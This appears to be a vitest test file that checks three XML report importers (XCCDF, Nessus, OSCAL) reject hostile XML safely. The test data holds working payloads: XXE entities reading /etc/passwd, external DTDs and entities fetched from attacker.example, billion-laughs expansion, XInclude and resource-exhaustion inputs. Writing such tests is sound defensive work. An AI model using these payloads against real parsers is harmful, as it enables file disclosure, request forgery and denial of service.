// Hostile XML (field/trust.md T14) through every importer that reads XML: refused with a rejection that names the place, nothing
// fetched, nothing expanded, nothing thrown.
import { describe, expect, it } from 'vitest'
import { detectFormat } from './detect.ts'
import type { Importer } from './importer.ts'
import { nessus } from './nessus.ts'
import { oscalAr } from './oscal-ar.ts'
import { bytesOf, headOf, readAll } from './reading.fixture.ts'
import { xccdf } from './xccdf.ts'

type Hostile = {
  readonly importer: Importer
  readonly root: string
  /** A document with one good record, and `extra` behind it. */
  readonly document: (prologue: string, extra: string) => string
}
const IMPORTERS: readonly Hostile[] = [
  {
    importer: xccdf,
    root: 'TestResult',
    document: (prologue, extra) =>
      `${prologue}<TestResult xmlns="http://checklists.nist.gov/xccdf/1.2"><rule-result idref="a"><result>pass</result></rule-result>${extra}</TestResult>`,
  },
  {
    importer: nessus,
    root: 'NessusClientData_v2',
    document: (prologue, extra) =>
      `${prologue}<NessusClientData_v2><Report><ReportHost name="h"><ReportItem pluginID="1" severity="0"/>${extra}</ReportHost></Report></NessusClientData_v2>`,
  },
  {
    importer: oscalAr,
    root: 'assessment-results',
    document: (prologue, extra) =>
      `${prologue}<assessment-results xmlns="http://csrc.nist.gov/ns/oscal/1.0"><result><observation uuid="o"/>${extra}</result></assessment-results>`,
  },
]

const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')

/** Prologue and what stands behind the good record. */
const IN_THE_PROLOGUE: readonly (readonly [string, (root: string) => string, string])[] = [
  ['a file as external entity', (root) => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, '<x>&x;</x>'],
  ['an address as external entity', (root) => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "http://attacker.example/x">]>`, '<x>&x;</x>'],
  ['a parameter entity', (root) => `<!DOCTYPE ${root} [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`, ''],
  ['an external document type', (root) => `<!DOCTYPE ${root} SYSTEM "http://attacker.example/x.dtd">`, ''],
  ['a public document type', (root) => `<!DOCTYPE ${root} PUBLIC "-//X//Y" "http://attacker.example/x.dtd">`, ''],
  ['an empty subset', (root) => `<!DOCTYPE ${root} []>`, ''],
  ['an entity that grows by powers', (root) => `<!DOCTYPE ${root} [<!ENTITY l0 "ha">${LAUGHS}]>`, '<x>&l9;</x>'],
  ['a large entity named often', (root) => `<!DOCTYPE ${root} [<!ENTITY x "${'a'.repeat(100_000)}">]>`, `<x>${'&x;'.repeat(10_000)}</x>`],
  ['a document type behind a comment', (root) => `<!-- é --><!DOCTYPE ${root} [<!ENTITY x "y">]>`, ''],
]

const BEHIND_A_RECORD: readonly (readonly [string, string])[] = [
  ['an entity nobody declared', '<x>&passwd;</x>'],
  ['XInclude', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'],
  ['XInclude inside what is read over', '<x><y xmlns="http://www.w3.org/2001/XInclude"><include href="x"/></y></x>'],
  ['a million attributes', `<x ${Array.from({ length: 1_000_000 }, (_, n) => `a${n}=""`).join(' ')}/>`],
  ['a million namespaces', `<x ${Array.from({ length: 1_000_000 }, (_, n) => `xmlns:a${n}="u"`).join(' ')}/>`],
  ['a million elements inside one another', '<x>'.repeat(1_000_000)],
  [
    'namespaces at every depth',
    Array.from({ length: 200 }, (_, d) => `<x ${Array.from({ length: 900 }, (__, n) => `xmlns:a${d}-${n}="u"`).join(' ')}>`).join(''),
  ],
  ['a document type too late', '<!DOCTYPE x [<!ENTITY y "z">]>'],
  ['a forbidden character', '<x>\u0001</x>'],
  ['a null byte', '<x>\0</x>'],
  ['a character reference out of range', '<x>&#x110000;</x>'],
  ['a comment without end', `<!-- ${'-'.repeat(100_000)}`],
  ['CDATA without end', `<x><![CDATA[${']'.repeat(100_000)}`],
  ['a name without end', `<${'n'.repeat(1_000_000)}`],
  ['an entity without end', `<x>&${'n'.repeat(1_000_000)}`],
]

describe.each(IMPORTERS)('$importer.formatId', ({ importer, root, document }) => {
  it.each(IN_THE_PROLOGUE)('refuses %s where it is declared', async (_what, prologue, extra) => {
    const head = prologue(root)
    const bytes = bytesOf(document(head, extra))
    const { records, rejections } = await readAll(importer, bytes)
    expect(records).toEqual([])
    const offset = bytesOf(head.slice(0, head.indexOf('<!DOCTYPE'))).length
    expect(rejections.map(({ code, pointer }) => [code, pointer?.offset])).toEqual([['damaged-xml', offset]])
  })

  it.each(BEHIND_A_RECORD)('refuses %s and keeps the record before it', async (_what, extra) => {
    const bytes = bytesOf(document('', extra))
    const { records, rejections } = await readAll(importer, bytes)
    expect(records.length).toBe(1)
    expect(rejections.map(({ code }) => code)).toEqual(['damaged-xml'])
    expect(rejections[0]?.message).toContain(`byte ${rejections[0]?.pointer?.offset}`)
  })

  it('is still detected, or is unknown; nothing is thrown', () => {
    const documents = [
      ...IN_THE_PROLOGUE.map(([, prologue, extra]) => document(prologue(root), extra)),
      ...BEHIND_A_RECORD.map(([, extra]) => document('', extra)),
    ]
    for (const text of documents) expect(['unknown', importer.formatId]).toContain(detectFormat(headOf(bytesOf(text))).formatId)
  })

  it.each([
    ['ISO-8859-1', []],
    ['windows-1252', []],
    ['ISO-8859-5', ['bad-encoding']],
  ])('that says it is %s is read where a person accepted code page 1252, if that is what it is', async (encoding, codes) => {
    const text = document(`<?xml version="1.0" encoding="${encoding}"?>`, '<x>\xe9</x>')
    const { records, rejections } = await readAll(importer, Buffer.from(text, 'latin1'), 64 * 1024, 'windows-1252')
    expect([records.length, rejections.map(({ code }) => code)]).toEqual([1, codes])
  })

  it.each([
    ['UTF-8', 'é', 1, []],
    ['utf-16', 'é', 1, []],
    ['ISO-8859-1', 'e', 1, []],
    ['windows-1252', 'é', 1, ['bad-encoding']],
    ['UTF-7', '+AOk-', 0, ['bad-encoding']],
    ['ISO-2022-JP', 'e', 0, ['bad-encoding']],
  ])('that says it is %s and holds %s', async (encoding, text, count, codes) => {
    const bytes = bytesOf(document(`<?xml version="1.0" encoding="${encoding}"?>`, `<x>${text}</x>`))
    for (const size of [64 * 1024, 1]) {
      const { records, rejections } = await readAll(importer, bytes, size)
      expect([records.length, rejections.map(({ code }) => code)]).toEqual([count, codes])
    }
  })

  it('reads UTF-16, with places in the bytes as they are', async () => {
    const text = document('<?xml version="1.0" encoding="UTF-16"?>', '<x>é𝄞</x>')
    const bytes = new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'))
    const { items } = await readAll(importer, bytes, 7, 'utf-16le')
    const [record] = items.filter((item) => item.kind === 'record')
    const raw = record === undefined ? '' : Buffer.from(bytes.subarray(record.offset, record.offset + record.length)).toString('utf16le')
    expect(raw).toMatch(/^<(rule-result|ReportItem|observation) .*>$/)
  })

  it('reads over instructions, which ask for style sheets', async () => {
    const { records, rejections } = await readAll(
      importer,
      bytesOf(document('<?xml-stylesheet href="http://attacker.example/x.xsl"?>', '<?php x?>')),
    )
    expect([records.length, rejections]).toEqual([1, []])
  })
})
